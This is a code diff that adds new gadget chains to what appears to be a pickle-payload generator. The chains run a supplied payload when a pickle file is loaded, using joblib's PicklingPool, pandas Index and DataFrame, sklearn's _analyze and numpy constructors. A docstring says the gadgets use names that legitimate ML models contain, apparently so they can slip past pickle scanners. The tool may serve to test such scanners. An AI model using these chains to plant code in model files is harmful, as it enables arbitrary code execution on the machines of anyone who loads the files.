@@ -22,6 +22,15 @@ def _reconstructed(path: str, state: Any) -> Call:
     return Call("copyreg:_reconstructor", Name(path), Name(path), state)
 
 
+def _later(payload: Payload) -> Call:
+    """A function of any argument that runs the payload: both parts are names that honest models hold as values."""
+    return Call("functools:partial", Name("sklearn.feature_extraction.text:_analyze"), payload.marker, _MAKES_FOLDER)
+
+
+def _answers(payload: Payload, name: str) -> Raw:
+    return built(Call("types:SimpleNamespace"), {name: _later(payload)})
+
+
 RUNS: Final[Calls] = {
     "scipy distribution": lambda p: _with_template(_NORMAL, p.code),
     "scipy distribution by copyreg": lambda p: built(Call("copyreg:__newobj__", Name(_NORMAL)), {_TEMPLATE: p.code}),
@@ -39,6 +48,10 @@ RUNS: Final[Calls] = {
     "scipy distribution, state of pairs": lambda p: new(_NORMAL, state=[(_TEMPLATE, p.code)]),
     "_reconstructor of a cache": lambda p: _reconstructed("joblib.memory:Memory", p.marker),
     "_reconstructor of a log": lambda p: _reconstructed("joblib.logger:PrintTime", p.marker),
+    "pool that acts when it is freed": lambda p: Raw(
+        push(new("joblib.pool:PicklingPool", state={"_state": "RUN", "_change_notifier": _answers(p, "put")})) + b"0N"
+    ),
+    "index of what answers as an array": lambda p: new("pandas:Index", _answers(p, "__array__")),
     "numpy generator constructor": lambda p: Call("numpy.random._pickle:__generator_ctor", p.marker, _MAKES_FOLDER),
     "numpy state constructor": lambda p: Call("numpy.random._pickle:__randomstate_ctor", p.marker, _MAKES_FOLDER),
 }
@@ -89,5 +102,4 @@ def _behind_many_entries(payload: Payload) -> bytes:
 
 def _callable_key(payload: Payload) -> bytes:
     """`DataFrame.__setitem__` calls a key that can be called, and gives it the frame as one more argument."""
-    key = Call("functools:partial", Name("sklearn.feature_extraction.text:_analyze"), payload.marker, _MAKES_FOLDER)
-    return stream(Raw(push(new("pandas:DataFrame")) + push(key) + push(1) + b"s"))
+    return stream(Raw(push(new("pandas:DataFrame")) + push(_later(payload)) + push(1) + b"s"))
